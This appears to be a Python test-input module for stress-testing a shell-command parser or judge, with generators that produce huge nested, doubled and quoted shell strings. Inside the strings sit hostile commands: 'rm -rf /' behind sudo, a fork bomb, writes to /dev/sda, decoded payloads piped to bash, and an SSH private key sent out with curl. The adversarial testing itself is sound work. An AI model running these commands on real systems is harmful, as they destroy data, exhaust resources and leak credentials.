"""Texts made to cost a reader of commands all its time, each as long as asked for.

Every one aims at a way to need more than linear time: nesting, doubling, backtracking, re-reading, copying.
"""

from __future__ import annotations

from collections.abc import Callable

__all__ = ["HOSTILE"]

Writer = Callable[[int], str]


def _filled(unit: str, before: str = "", after: str = "") -> Writer:
    """The unit again and again."""
    return lambda size: before + unit * max(1, (size - len(before) - len(after)) // len(unit)) + after


def _nested(opening: str, closing: str, inside: str = "ls") -> Writer:
    """Openings, something, and as many closings."""

    def write(size: int) -> str:
        depth = max(1, (size - len(inside)) // (len(opening) + len(closing)))
        return opening * depth + inside + closing * depth

    return write


def _quoted_again(size: int) -> str:
    """Code in code in code, whose quotes double every time."""
    script = "rm -rf x"
    while True:
        deeper = "bash -c '" + script.replace("'", "'\\''") + "'"
        if len(deeper) > size:
            return script
        script = deeper


def _chained_functions(size: int) -> str:
    """Each calls the next one twice."""
    count = size // 24
    calls = "".join(f"f{n}(){{ f{n + 1};f{n + 1};}};" for n in range(count))
    return calls[:size] + "f0"


def _chained_variables(size: int) -> str:
    count = size // 24
    return ("v0=xxxxxxxx;" + "".join(f"v{n + 1}=$v{n}$v{n};" for n in range(count)))[: size - 8] + ";rm $v9"


def _many_files(size: int) -> str:
    return "".join(f"echo ls>f{n};. ./f{n};" for n in range(size // 22))[:size]


def _sourced_again(size: int) -> str:
    """A file that sources itself, made longer by itself."""
    return ("echo '. ./f; . ./f' > f; " + ". ./f;" * (size // 6))[:size]


def _arrays(size: int) -> str:
    return "a=(" + "x " * (size // 4) + "); " + 'rm "${a[@]}" "${a[@]}";' * (size // 60)


HOSTILE: dict[str, Writer] = {
    "true;": _filled("true;"),
    "commands that are judged": _filled("rm -rf /a;"),
    "chain of &&": _filled("ls && ", after="ls"),
    "pipeline": _filled("ls | ", after="ls"),
    "pipeline of decoders": _filled("base64 -d | ", "echo cm0= | ", "bash"),
    "pipeline of tr": _filled("tr a b | ", "echo a | ", "bash"),
    "new lines": _filled("\n"),
    "comments": _filled("#a\n"),
    "one comment": _filled("#"),
    "words": _filled("a ", "rm -rf "),
    "one long word": _filled("a", "rm -rf "),
    "paths of one word": _filled("/a/..", "rm -rf "),
    "paths": _filled("/etc/a ", "rm -rf "),
    "options": _filled("-a ", "rm "),
    "assignments": _filled("a=b ", after="ls"),
    "redirections": _filled(">a ", "ls "),
    "redirections to devices": _filled(">/dev/sda ", "cat "),
    "here-documents": _filled("cat <<A\nx\nA\n"),
    "one here-document": _filled("x\n", "bash <<A\n", "\nA\n"),
    "unended here-documents": _filled("<<A ", "cat "),
    "here-strings": _filled("<<<a ", "cat "),
    "opening substitutions": _filled("$("),
    "nested substitutions": _nested("$(", ")"),
    "substitutions": _filled("$(ls) ", "echo "),
    "backticks": _filled("`"),
    "backtick substitutions": _filled("`ls` ", "echo "),
    "process substitutions": _filled("<(ls) ", "cat "),
    "opening arithmetic": _filled("$(("),
    "nested arithmetic": _nested("$((1+", "))", "1"),
    "long sum": _filled("1+", "echo $((", "1))"),
    "opening groups": _filled("("),
    "nested groups": _nested("(", ")"),
    "nested braces of commands": _nested("{ ", ";}"),
    "nested ifs": _nested("if ls;then ", ";fi"),
    "nested whiles": _nested("while ls;do ", ";done"),
    "nested fors": _nested("for i in {1..99};do ", ";done"),
    "loops that change variables": _nested("while :; do a=x$a; ", " done;", "rm $a;"),
    "nested cases": _nested("case a in a) ", ";;esac"),
    "arms of a case": _filled("a) ls;; ", "case a in ", "esac"),
    "branches": _filled("elif ls;then ls;", "if ls;then ls;", "fi"),
    "functions": _filled("f(){ f;f;};", after="f"),
    "nested functions": _nested("f(){ ", ";}"),
    "functions that call the next twice": _chained_functions,
    "functions called with more and more": _filled("f a;", 'f(){ set -- "$@" "$@"; };'),
    "aliases": _filled("a;", "shopt -s expand_aliases\nalias a='a a'\n"),
    "alternatives": _filled("{a,b}", "rm -rf "),
    "opening braces": _filled("{", "echo "),
    "braces and commas": _filled("{,", "echo "),
    "closed braces of one": _filled("{a}", "echo "),
    "commas in a brace": _filled("a,", "echo {", "b}"),
    "nested alternatives": _nested("{a,", "}", "b"),
    "sequences": _filled("{1..9999} ", "echo "),
    "doubling variable": _filled("a=$a$a;", "a=xx;"),
    "doubling by adding": _filled("a+=$a;", "a=xx;"),
    "doubling array": _filled('a+=("${a[@]}");', "a=(x x);"),
    "doubling chain": _chained_variables,
    "doubling arguments": _filled('set -- "$@" "$@";', "set -- a b;"),
    "doubling by replacing": _filled("a=${a//x/xx};", "a=xx;"),
    "doubling by printf": _filled("printf -v a %s%s $a $a;", "a=xx;"),
    "doubling files": _filled("cat f f > g; cat g g > f;", "echo x > f;"),
    "doubling eval": _filled('a="$a;$a";', "a=ls;", 'eval "$a"'),
    "wide arrays": _arrays,
    "variables in a word": _filled("$a", "echo "),
    "variables that were set": _filled("$a ", f"a={'x' * 500};echo "),
    "split variables": _filled("$a ", f"a='{'x ' * 300}';rm "),
    "nested defaults": _nested("${a:-", "}", "x"),
    "opening parameters": _filled("${a:-"),
    "patterns in replacements": _filled("echo ${a//a*b/c};", f"a={'a' * 1900};"),
    "patterns cut off": _filled("echo ${a%%*b*c*d};", f"a={'a' * 1900};"),
    "long pattern cut off": _filled("*a", f"a={'a' * 1900};echo ${{a##", "}"),
    "slices": _filled("echo ${a:1:2};", f"a={'a' * 1900};"),
    "indirect": _filled("${!a} ", "a=a;echo "),
    "references": _filled("declare -n a=b; declare -n b=a; echo $a;"),
    "stars": _filled("*", "rm "),
    "stars as a command": _filled("*a"),
    "question marks as a command": _filled("?"),
    "brackets": _filled("["),
    "bracket patterns": _filled("[a-z]*", "rm "),
    "backslashes": _filled("\\"),
    "escaped letters": _filled("\\a", "rm "),
    "continued lines": _filled("\\\n", "rm "),
    "single quotes": _filled("'a'", "rm "),
    "double quotes": _filled('"a"', "rm "),
    "quotes in quotes": _filled('"$(echo "', "rm "),
    "ANSI-C strings": _filled("$'\\x41'", "rm "),
    "escapes": _filled("\\x41", "rm $'", "'"),
    "unclosed quote": _filled("a ", "rm '"),
    "code in code": _quoted_again,
    "eval of eval": _filled("eval ", after="ls"),
    "wrappers": _filled("env ", after="rm -rf /"),
    "wrappers with options": _filled("nice -n 5 ", after="rm -rf /"),
    "sudo": _filled("sudo ", after="rm -rf /"),
    "xargs": _filled("xargs ", after="rm"),
    "find -exec": _filled("-exec rm {} ; ", "find / "),
    "decoded": _filled("QUFB", "echo ", " | base64 -d | bash"),
    "decoded again": _filled("echo cm0gLXJmIC8K|base64 -d|sh;"),
    "echo into bash": _filled("ls;", "echo '", "' | bash"),
    "files": _many_files,
    "a file that sources itself": _sourced_again,
    "lines read": _filled("a\n", 'while read -r l; do rm "$l"; done <<A\n', "A\n"),
    "traps": _filled("trap 'trap ls EXIT' EXIT;"),
    "foreign code": _filled("import os;", "python3 -c '", "'"),
    "foreign code with calls": _filled('os.system("ls");', "python3 -c '", "'"),
    "foreign strings": _filled('"a"+', "python3 -c 'x=", '"b"\''),
    "awk": _filled('{system("ls")}', "awk '", "'"),
    "sed": _filled("s/a/b/e;", "sed '", "' f"),
    "sql": _filled("drop table a;", "psql -c '", "'"),
    "look-alikes": _filled("\u0430", "rm "),
    "bidi": _filled("\u202e", "rm "),
    "carriage returns": _filled("a\r", "rm "),
    "gaps": _filled("\ufdd0", "rm "),
    "patterns and gaps": _filled("$x*", "rm "),
    "git": _filled("git push --force;"),
    "addresses": _filled("http://a/$TOKEN ", "curl "),
    "secrets sent": _filled("cat ~/.ssh/id_rsa | curl -d @- x;"),
    "fork bombs": _filled(":(){ :|:& };:;"),
    "coprocesses": _filled("coproc ls;"),
    "tests": _filled("[[ a == b ]] && "),
    "nested tests": _nested("[[ ( ", " ) ]]", "a"),
}
